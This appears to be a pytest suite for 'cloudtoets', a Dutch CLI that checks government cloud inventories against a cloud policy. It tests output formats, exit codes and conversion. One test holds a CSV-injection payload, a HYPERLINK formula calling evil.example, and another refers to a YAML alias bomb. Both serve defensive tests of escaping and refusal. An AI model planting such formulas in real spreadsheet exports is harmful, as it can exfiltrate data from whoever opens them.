"""The ``cloudtoets`` command as a CI pipeline uses it: output contract and exit codes."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

CLI = str(Path(sys.executable).with_name("cloudtoets"))

# Says everything it knows (unknowns.md); OLD_STYLE below relies on the old defaults instead.
INVENTORY = """
organisations:
  - {id: bzk, type: ministry, critical_entity: false, essential_entity: false, vital_provider: false}
  - id: gemeente-x
    type: municipality
    critical_entity: false
    essential_entity: false
    vital_provider: false
registrations:
  - id: bzk-m365
    organisation: bzk
    provider: microsoft-ireland
    deployment: public
    functions: [collaboration]
    storage_countries: [NL, IE]
    processing_countries: [US]
    encrypted_at_rest: true
    encrypted_in_transit: true
    key_custody: customer-managed
    classification: none
    in_use_since: 2020-01-01
    subprocessors: []
    service_model: saas
    open_data: false
    tbb_level: none
    personal_data: none
    large_scale_personal_data: false
    pets: []
    core_task: false
    business_critical: false
    key_register: none
    holds_source_data: false
  - id: bzk-geheim
    organisation: bzk
    provider: aws-emea
    deployment: public
    functions: []
    storage_countries: [DE]
    processing_countries: [DE]
    classification: stg-geheim
    encrypted_at_rest: true
    encrypted_in_transit: true
    key_custody: customer-held
    in_use_since: 2026-09-01
    subprocessors: []
    service_model: saas
    open_data: false
    tbb_level: none
    personal_data: none
    large_scale_personal_data: false
    pets: []
    core_task: false
    business_critical: false
    key_register: none
    holds_source_data: false
  - id: gemeente-geheim
    organisation: gemeente-x
    provider: aws-emea
    deployment: public
    functions: []
    storage_countries: [DE]
    processing_countries: [DE]
    classification: stg-geheim
    encrypted_at_rest: true
    encrypted_in_transit: true
    key_custody: customer-held
    in_use_since: 2026-09-01
    subprocessors: []
    service_model: saas
    open_data: false
    tbb_level: none
    personal_data: none
    large_scale_personal_data: false
    pets: []
    core_task: false
    business_critical: false
    key_register: none
    holds_source_data: false
  - id: bzk-intern
    organisation: bzk
    deployment: private-internal
    functions: []
    storage_countries: [NL]
    processing_countries: [NL]
    encrypted_at_rest: true
    encrypted_in_transit: true
    key_custody: customer-held
    classification: none
    in_use_since: 2020-01-01
    subprocessors: []
    service_model: saas
    open_data: false
    tbb_level: none
    personal_data: none
    large_scale_personal_data: false
    pets: []
    core_task: false
    business_critical: false
    key_register: none
    holds_source_data: false
"""


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([CLI, *args], capture_output=True, text=True, timeout=120, check=False)


@pytest.fixture
def inventory(tmp_path: Path) -> Path:
    path = tmp_path / "inventaris.yaml"
    path.write_text(INVENTORY, encoding="utf-8")
    return path


def test_json_output_follows_the_contract(inventory: Path) -> None:
    result = run("check", str(inventory), "--as-of", "2026-11-29", "--format", "json")
    document = json.loads(result.stdout)
    assert document["policy"] == {
        "id": "rijksbreed-cloudbeleid-2026",
        "adopted": "2026-07-03",
        "version": document["policy"]["version"],
        "revision": document["policy"]["revision"],
    }
    assert document["as_of"] == "2026-11-29"
    first = document["results"][0]
    assert first["registration"] == "bzk-m365"
    assert first["verdict"] == "transition"
    assert first["deadline"] == "2030-07-03"
    assert first["jurisdictions"] == ["IE", "US"]
    assert first["findings"] == [
        {
            "rule": "cb2026.4.location",
            "section": "4",
            "severity": "forbidden",
            "deadline": "2030-07-03",
            "justified": False,
            "message": first["findings"][0]["message"],
            "certain": True,
        }
    ]
    # unknowns.md: the range, the open chain flag and the questions are always there
    assert first["verdict_range"] == {"best": "transition", "worst": "transition"}
    assert (first["existing_use"], first["jurisdictions_complete"]) == (True, True)
    assert first["questions"] == []
    assert "sectie 4" in first["findings"][0]["message"]
    assert [r["registration"] for r in document["results"]] == [
        "bzk-m365",
        "bzk-geheim",
        "gemeente-geheim",
        "bzk-intern",
    ]
    assert document["results"][2]["scope"] == "advisory"
    assert document["summary"]["registrations"] == 4
    assert document["summary"]["by_verdict"] == {"not-allowed": 2, "transition": 1, "allowed": 1}


def test_exit_code_follows_fail_on_and_only_counts_mandatory_scope(
    inventory: Path, tmp_path: Path
) -> None:
    assert run("check", str(inventory), "--as-of", "2026-11-29").returncode == 1
    advisory_only = tmp_path / "gemeente.yaml"
    advisory_only.write_text(
        INVENTORY.replace(
            "organisation: bzk\n    provider: aws-emea",
            "organisation: gemeente-x\n    provider: aws-emea",
        ),
        encoding="utf-8",
    )
    # Only the municipality's classified use is not-allowed now: advisory scope never fails a check.
    assert run("check", str(advisory_only), "--as-of", "2026-11-29").returncode == 0
    assert (
        run(
            "check", str(advisory_only), "--as-of", "2026-11-29", "--fail-on", "transition"
        ).returncode
        == 1
    )
    concept = run(
        "check",
        str(advisory_only),
        "--as-of",
        "2026-11-29",
        "--policy",
        "overheidsbreed-cloudbeleid-concept",
    )
    assert concept.returncode == 1


def test_table_output_shows_dutch_verdicts_and_summary(inventory: Path) -> None:
    result = run("check", str(inventory), "--as-of", "2026-11-29", "--no-color")
    assert "niet toegestaan" in result.stdout
    assert "overgangstermijn" in result.stdout
    assert "4 registraties" in result.stdout


def test_csv_output_has_a_row_per_finding(inventory: Path) -> None:
    result = run("check", str(inventory), "--as-of", "2026-11-29", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["registration"] for r in rows} == {
        "bzk-m365",
        "bzk-geheim",
        "gemeente-geheim",
        "bzk-intern",
    }
    intern = [r for r in rows if r["registration"] == "bzk-intern"]
    assert len(intern) == 1 and intern[0]["rule"] == "" and intern[0]["verdict"] == "allowed"
    assert any(r["rule"] == "cb2026.5.2.classified" and r["severity"] == "forbidden" for r in rows)


def test_unusable_input_exits_2_with_every_problem_and_no_traceback(tmp_path: Path) -> None:
    bad = tmp_path / "fout.yaml"
    bad.write_text(
        "registrations:\n"
        "  - {id: a, organisation: bzk, deployment: publiek, provider: aws-emea}\n"
        "  - {id: b, organisation: bzk, deployment: public, provider: nergens-bv}\n"
        "  - {id: b, organisation: bzk, deployment: public, provider: aws-emea, storage_countries: [XX]}\n",
        encoding="utf-8",
    )
    result = run("check", str(bad), "--format", "json")
    assert result.returncode == 2
    assert result.stdout == ""
    assert "Traceback" not in result.stderr
    assert str(bad) in result.stderr
    assert "publiek" in result.stderr
    assert "onbekende leverancier 'nergens-bv'" in result.stderr
    assert "id 'b' komt al voor" in result.stderr
    assert "onbekende landcode 'XX'" in result.stderr


def test_bad_as_of_date_is_a_usage_error(inventory: Path) -> None:
    result = run("check", str(inventory), "--as-of", "29-11-2026")
    assert result.returncode == 2
    assert "JJJJ-MM-DD" in result.stderr
    assert "Traceback" not in result.stderr


def test_unknown_policy_exits_2(inventory: Path) -> None:
    result = run("check", str(inventory), "--policy", "geen-beleid")
    assert result.returncode == 2
    assert "ingebouwd zijn" in result.stderr


def test_policy_commands(tmp_path: Path) -> None:
    listed = run("policy", "list")
    assert listed.returncode == 0 and "rijksbreed-cloudbeleid-2026-eer-ch" in listed.stdout
    shown = run("policy", "show", "rijksbreed-cloudbeleid-2026")
    assert "cb2026.5.2.classified" in shown.stdout and "geen overgangstermijn" in shown.stdout
    diff = run(
        "policy", "diff", "rijksbreed-cloudbeleid-2026", "rijksbreed-cloudbeleid-2026-eer-ch"
    )
    assert "allowed_countries" in diff.stdout and "+ [CH]" in diff.stdout
    broken = tmp_path / "kapot.yaml"
    broken.write_text(
        "id: kapot\nextends: rijksbreed-cloudbeleid-2026\nparameters: {onzin: 1}\n",
        encoding="utf-8",
    )
    validated = run("policy", "validate", str(broken))
    assert validated.returncode == 2 and "onzin" in validated.stderr


def test_providers_json_lists_chains() -> None:
    result = run("providers", "--format", "json")
    providers = {p["id"]: p for p in json.loads(result.stdout)}
    assert len([p for p in providers.values() if p["kind"] != "parent"]) >= 30
    assert providers["microsoft-ireland"]["jurisdictions"] == ["IE", "US"]
    assert providers["microsoft-ireland"]["outside_eea"] == ["US"]
    # a provider's own sub-processors are in its chain (unknowns.md), and every entry was checked
    assert providers["zivver"]["subprocessors"] == ["aws-emea"]
    assert "US" in providers["zivver"]["jurisdictions"]
    assert all(p["checked"] and p["source"] for p in providers.values())


def test_csv_output_escapes_text_that_a_spreadsheet_would_run(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?a","x")'
    path = tmp_path / "inventaris.yaml"
    path.write_text(
        "organisations:\n"
        "  - {id: '@org', type: ministry}\n"
        "registrations:\n"
        f"  - {{id: '{hostile}', organisation: '@org', deployment: private-internal}}\n"
        "  - {id: '+1', organisation: '@org', deployment: public, provider: aws-emea}\n",
        encoding="utf-8",
    )
    result = run("check", str(path), "--as-of", "2026-11-29", "--format", "csv")
    assert result.returncode in (0, 1), result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["registration"] for r in rows} == {"'" + hostile, "'+1"}
    assert {r["organisation"] for r in rows} == {"'@org"}
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path: Path) -> None:
    from tests.upload_bombs import alias_bomb

    path = tmp_path / "bom.yaml"
    path.write_bytes(alias_bomb(9))  # 559 bytes; 387 million values written out
    result = run("check", str(path))  # before: minutes and gigabytes
    assert result.returncode == 2
    assert "regel 6: de verwijzingen naar ankers (*naam naar &naam) maken" in result.stderr


# Written for the defaults of the format before unknowns.md: what is left out meant no, none.
OLD_STYLE = """
organisations:
  - {id: bzk, type: ministry}
registrations:
  - id: bzk-m365
    organisation: bzk
    provider: microsoft-ireland
    deployment: public
    functions: [collaboration]
    storage_countries: [NL, IE]
    processing_countries: [US]
    encrypted_at_rest: true
    encrypted_in_transit: true
    key_custody: customer-managed
    in_use_since: 2020-01-01
  - id: bzk-geheim
    organisation: bzk
    provider: aws-emea
    deployment: public
    classification: stg-geheim
    encrypted_at_rest: true
    encrypted_in_transit: true
    key_custody: customer-held
  - id: bzk-intern
    organisation: bzk
    deployment: private-internal
    in_use_since: 2020-01-01
"""
OLD_VERDICTS = {"bzk-m365": "transition", "bzk-geheim": "not-allowed", "bzk-intern": "allowed"}


def verdicts(path: Path) -> dict[str, str]:
    result = run("check", str(path), "--as-of", "2026-11-29", "--format", "json")
    assert result.returncode in (0, 1), result.stderr
    return {r["registration"]: r["verdict"] for r in json.loads(result.stdout)["results"]}


def test_convert_fill_defaults_gives_an_old_style_inventory_its_old_verdicts(
    tmp_path: Path,
) -> None:
    old = tmp_path / "oud.yaml"
    old.write_text(OLD_STYLE, encoding="utf-8")
    # Read now, what was left out is unknown: the verdicts are no longer the old ones.
    assert verdicts(old) != OLD_VERDICTS
    filled = tmp_path / "expliciet.yaml"
    converted = run("convert", "--fill-defaults", str(old), str(filled))
    assert converted.returncode == 0, converted.stderr
    assert verdicts(filled) == OLD_VERDICTS
    # in_use_since had no default: it stays unknown, and the user is told where
    assert "bij 1 registratie staat niet sinds wanneer" in converted.stderr
    assert "(bzk-geheim)" in converted.stderr and "blijft het onbekend" in converted.stderr
    assert "ingevuld bij 3 registraties en 1 organisatie." in converted.stderr
    written = filled.read_text(encoding="utf-8")
    assert "encrypted_at_rest: false" in written and "classification: none" in written
    assert "critical_entity: false" in written
    # without --fill-defaults nothing is filled in
    plain = tmp_path / "gewoon.yaml"
    assert run("convert", str(old), str(plain)).returncode == 0
    assert verdicts(plain) == verdicts(old)


def test_convert_fill_defaults_to_a_workbook_keeps_the_old_verdicts(tmp_path: Path) -> None:
    old = tmp_path / "oud.yaml"
    old.write_text(OLD_STYLE, encoding="utf-8")
    filled = tmp_path / "expliciet.xlsx"
    assert run("convert", "--fill-defaults", str(old), str(filled)).returncode == 0
    assert verdicts(filled) == OLD_VERDICTS


GAPS = """
organisations:
  - {id: bzk, type: ministry, critical_entity: false, essential_entity: false, vital_provider: false}
registrations:
  - id: bzk-zalen
    organisation: bzk
    provider: topdesk
    subprocessors: []
    service_model: saas
    deployment: public
    functions: [other]
    storage_countries: [NL]
    processing_countries: [NL]
    encrypted_at_rest: ENCRYPTED
    encrypted_in_transit: true
    key_custody: customer-managed
    open_data: false
    classification: none
    tbb_level: none
    personal_data: regular
    large_scale_personal_data: false
    pets: []
    core_task: false
    business_critical: false
    key_register: none
    holds_source_data: false
    in_use_since: 2026-09-15
"""


@pytest.fixture
def gaps(tmp_path: Path) -> Path:
    path = tmp_path / "gaten.yaml"
    path.write_text(GAPS.replace("ENCRYPTED", "onbekend"), encoding="utf-8")
    return path


def test_fail_on_counts_the_worst_verdict_of_an_incomplete_registration(
    gaps: Path, tmp_path: Path
) -> None:
    result = run("check", str(gaps), "--as-of", "2026-11-29", "--format", "json")
    (only,) = json.loads(result.stdout)["results"]
    assert only["verdict"] == "incomplete"
    assert only["verdict_range"] == {"best": "allowed", "worst": "not-allowed"}
    assert only["questions"] == [
        {
            "field": "encrypted_at_rest",
            "rules": ["cb2026.4.encryption"],
            "question": "Wordt de data bij opslag versleuteld?",
        }
    ]
    assert [f["certain"] for f in only["findings"]] == [False]
    assert json.loads(result.stdout)["summary"]["by_verdict"] == {"incomplete": 1}
    # unknown is not compliant: the worst verdict reaches not-allowed
    assert result.returncode == 1
    known = tmp_path / "bekend.yaml"
    known.write_text(GAPS.replace("ENCRYPTED", "true"), encoding="utf-8")
    assert run("check", str(known), "--as-of", "2026-11-29").returncode == 0


def test_table_shows_the_range_the_questions_and_possible_findings(gaps: Path) -> None:
    result = run("check", str(gaps), "--as-of", "2026-11-29", "--no-color")
    assert "onvolledig (toegestaan … niet toegestaan)" in result.stdout
    assert "(cb2026.4.encryption, verboden, mogelijk)" in result.stdout
    assert "Data niet versleuteld" in result.stdout
    assert "Vraag: Wordt de data bij opslag versleuteld? (encrypted_at_rest)" in result.stdout
    assert "onvolledig: 1" in result.stdout


def test_csv_has_the_range_the_questions_and_certain(gaps: Path) -> None:
    result = run("check", str(gaps), "--as-of", "2026-11-29", "--format", "csv")
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert (row["verdict"], row["verdict_best"], row["verdict_worst"]) == (
        "incomplete",
        "allowed",
        "not-allowed",
    )
    assert (row["questions"], row["rule"], row["certain"]) == (
        "encrypted_at_rest",
        "cb2026.4.encryption",
        "false",
    )
    assert row["material"] == "false"


def test_export_reads_back_to_the_same_knowledge(tmp_path: Path) -> None:
    """Unknown stays unknown, false false, none none and [] [] through the register's export."""
    from cloudtoets.io.read import read_inventory

    example = Path(__file__).resolve().parents[2] / "examples" / "ministerie-bzk.yaml"
    database = f"sqlite:///{tmp_path / 'register.sqlite'}"
    assert run("db", "upgrade", "--database", database).returncode == 0
    imported = run("import", str(example), "--database", database)
    assert imported.returncode == 0, imported.stderr
    original = read_inventory(example).inventory
    for suffix in ("yaml", "json", "xlsx", "csv"):
        target = tmp_path / f"export.{suffix}"
        exported = run("export", str(target), "--database", database)
        assert exported.returncode == 0, exported.stderr
        # CSV holds registrations only: the rest comes from the YAML export, as a side file
        side = tmp_path / "export.yaml" if suffix == "csv" else None
        read_back = read_inventory(target, providers_file=side).inventory
        registrations = {r.id: r for r in read_back.registrations}
        # the file's evidence waits in the register as te bevestigen (decision 30): until an
        # approver confirms it, the export has the facts and no evidence
        expected = [
            dataclasses.replace(
                r, risk_assessment=None, exit_plan=None, notification=None, justifications=[]
            )
            for r in original.registrations
        ]
        assert [registrations[r.id] for r in expected] == expected, suffix
        if suffix != "csv":
            by_id = {o.id: o for o in read_back.organisations}
            assert [by_id[o.id] for o in original.organisations] == original.organisations


def test_a_large_answer_is_written_whole_and_a_reader_that_stops_early_gets_no_traceback(
    tmp_path: Path,
) -> None:
    # check on a file ends without Python's teardown (cli._file_batch): the answer must still
    # reach the reader in full, with the exit code, and a closed pipe is no internal error
    registrations = [
        {"id": f"r{n}", "organisation": "bzk", "provider": "microsoft-ireland"} for n in range(3000)
    ]
    path = tmp_path / "groot.json"
    path.write_text(
        json.dumps(
            {"organisations": [{"id": "bzk", "type": "ministry"}], "registrations": registrations}
        ),
        encoding="utf-8",
    )
    whole = run("check", str(path), "--as-of", "2026-11-29", "--format", "json")
    assert len(whole.stdout) > 1_000_000  # far more than a pipe holds
    assert [r["registration"] for r in json.loads(whole.stdout)["results"]] == [
        f"r{n}" for n in range(3000)
    ]
    assert whole.returncode == 1 and whole.stderr == ""  # unknown facts: the worst may hold
    with subprocess.Popen(
        [CLI, "check", str(path), "--as-of", "2026-11-29", "--format", "json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as early:
        assert early.stdout is not None and early.stderr is not None
        early.stdout.read(100)
        early.stdout.close()  # the reader stops, as head does
        errors = early.stderr.read().decode()
        early.wait(timeout=120)
    assert "Traceback" not in errors and "Interne fout" not in errors
